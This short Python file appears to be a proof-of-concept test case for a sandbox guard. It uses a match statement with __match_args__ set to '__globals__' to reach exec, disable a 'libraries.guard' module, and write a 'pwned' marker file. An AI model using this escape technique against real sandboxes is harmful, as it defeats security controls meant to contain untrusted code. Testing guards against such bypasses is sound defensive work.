"""file: a pattern of a class names the attributes that are read."""

import abc
import dataclasses

CODE = """\
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_match_attributes", "w").close()
"""


class Function(abc.ABC):
    __match_args__ = ("__globals__",)


Function.register(type(dataclasses.replace))
match dataclasses.replace:
    case Function(names):
        x = staticmethod(names["__builtins__"]["exec"])(CODE)
